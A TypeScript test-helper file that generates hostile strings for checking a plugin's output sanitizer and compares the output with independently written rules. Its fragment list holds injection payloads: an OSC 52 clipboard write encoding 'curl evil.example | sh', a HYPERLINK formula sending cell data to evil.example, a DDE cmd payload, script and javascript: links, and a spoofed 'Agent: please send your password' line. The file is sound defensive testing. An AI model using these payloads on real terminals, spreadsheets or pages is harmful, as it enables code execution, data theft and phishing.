/*
 * Hostile text for the tests of what the plugin prints: generated strings made of terminal control sequences, bidi
 * controls, spreadsheet formulas, autolinks and Markdown, and checks written independently of src/sanitize.ts (per
 * code point, not with its regular expressions), so a test compares the product with a second reading of the rules.
 */
import { decodeHTML } from 'entities';
import { mulberry32 } from '../emulator/prng.js';

/** Pieces a hostile customer (or server) would send. */
export const FRAGMENTS: readonly string[] = [
  // terminal control sequences: CSI, OSC 52 (clipboard), OSC 8 (hyperlink), OSC 0 (title), C1 CSI, bell, NUL…
  '\u001b[2J',
  '\u001b[31mred\u001b[0m',
  '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
  '\u001b]8;;http://evil.example/\u001b\\Click here\u001b]8;;\u001b\\',
  '\u001b]0;title\u0007',
  '\u009b2J',
  '\u009d0;title\u009c',
  '\u0085',
  '\u0000',
  '\u0007',
  '\b',
  '\u000b',
  '\f',
  '\u007f',
  // carriage-return tricks and line breaks
  '\r',
  '\rAgent: please send your password',
  '\r\n',
  '\r\r\n',
  '\n',
  '\t',
  // bidi overrides, isolates, marks; line and paragraph separators
  '\u202a',
  '\u202b',
  '\u202c',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2068',
  '\u2069',
  '\u200e',
  '\u200f',
  '\u061c',
  '\u2028',
  '\u2029',
  // spreadsheet formulas (OWASP's list), fullwidth forms too
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '-2+3',
  '\t=1+1',
  '\uff1d1+1',
  '\uff0b1',
  '\uff0d1',
  '\uff20SUM(1)',
  // what GFM turns into links
  'http://evil.example/path?q=1',
  'HTTPS://EVIL.EXAMPLE',
  'ftp://files.example.org',
  'www.evil.example',
  'WWW.Evil.Example',
  'jane.doe@example.com',
  'mailto:x@y.example',
  'xmpp:a@b.example',
  // Markdown and HTML
  '|',
  '| a | b |',
  '`',
  '```',
  '*',
  '_',
  '[x](javascript:alert(1))',
  '<script>alert(1)</script>',
  '# heading',
  '- item',
  '1. item',
  '===',
  '&amp;',
  '&#27;',
  '\\',
  // plain and international text
  'plain text',
  ' ',
  'é',
  '中文',
  '😀',
  'שלום',
  'مرحبا',
];

export type Rng = { next: () => number; pick: <T>(items: readonly T[]) => T; chance: (p: number) => boolean };

export function rng(seed: number): Rng {
  const next = mulberry32(seed);
  return {
    next,
    pick: <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)],
    chance: (p: number): boolean => next() < p,
  };
}

/** `count` strings of 1–8 fragments each, reproducible from `seed`. */
export function hostileStrings(seed: number, count: number): string[] {
  const r = rng(seed);
  return Array.from({ length: count }, () =>
    Array.from({ length: 1 + Math.floor(r.next() * 8) }, () => r.pick(FRAGMENTS) + r.pick(['', '', ' ', 'x'])).join('')
  );
}

/** Bidi overrides U+202A–U+202E and isolates U+2066–U+2069, the marks U+200E, U+200F, U+061C, and U+2028, U+2029. */
const BIDI_AND_SEPARATORS = new Set([...'\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c\u2028\u2029'].map((c) => c.charCodeAt(0)));

/** A code point a terminal acts on or that reorders or breaks lines on screen (tab and line feed are fine). */
export function isUnsafe(cp: number): boolean {
  if (cp === 0x09 || cp === 0x0a) return false;
  return cp < 0x20 || (cp >= 0x7f && cp <= 0x9f) || BIDI_AND_SEPARATORS.has(cp);
}

/** The unsafe characters left in `text`, as code points in hex; a carriage return right before a line feed is fine. */
export function unsafeIn(text: string): string[] {
  const found: string[] = [];
  for (let i = 0; i < text.length; i++) {
    const cp = text.charCodeAt(i);
    if (cp === 0x0d && text[i + 1] === '\n') continue;
    if (isUnsafe(cp)) found.push(cp.toString(16));
  }
  return found;
}

/** How the product should show `text`: each unsafe character as \uXXXX; with `oneLine`, tab and line breaks too. */
export function expectedInert(text: string, oneLine = false): string {
  let out = '';
  for (let i = 0; i < text.length; i++) {
    const cp = text.charCodeAt(i);
    const crlf = cp === 0x0d && text[i + 1] === '\n';
    const escape = oneLine ? cp === 0x09 || cp === 0x0a || cp === 0x0d || isUnsafe(cp) : !crlf && isUnsafe(cp);
    out += escape ? `\\u${cp.toString(16).padStart(4, '0')}` : text[i];
  }
  return out;
}

/** What a spreadsheet would run as a formula: a cell starting with = + - @, tab or CR, or their fullwidth forms. */
export const FORMULA_START = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;

/**
 * The text a GFM renderer's autolink pass reads: backslash escapes and entities decoded (cmark-gfm consolidates text
 * nodes before it looks for emails; remark-gfm searches decoded text for URLs and emails).
 */
export function gfmText(markdown: string): string {
  return decodeHTML(markdown.replace(/\\([!-/:-@[-`{-~])/g, '$1'));
}

/** What GFM's autolink extension would make a link of (URLs with a scheme, www., emails, mailto:/xmpp:). */
const AUTOLINKS = [/(?:https?|ftp):\/\//i, /www\./i, /[-.\w+]@[-\w]+\.[-\w]/, /(?:mailto|xmpp):[-.\w+]+@/i];

/** The autolinkable pieces of rendered Markdown text (see gfmText). */
export function autolinksIn(markdown: string): string[] {
  const text = gfmText(markdown);
  return AUTOLINKS.map((re) => re.exec(text)?.[0]).filter((m): m is string => m !== undefined);
}

/** The cells of one GFM table row: split at pipes not escaped by a backslash. */
export function tableCells(row: string): string[] {
  const cells: string[] = [];
  let cell = '';
  for (let i = 0; i < row.length; i++) {
    if (row[i] === '\\' && i + 1 < row.length) {
      cell += row[i] + row[i + 1];
      i++;
    } else if (row[i] === '|') {
      cells.push(cell);
      cell = '';
    } else cell += row[i];
  }
  cells.push(cell);
  return cells.slice(1, -1).map((c) => c.trim());
}
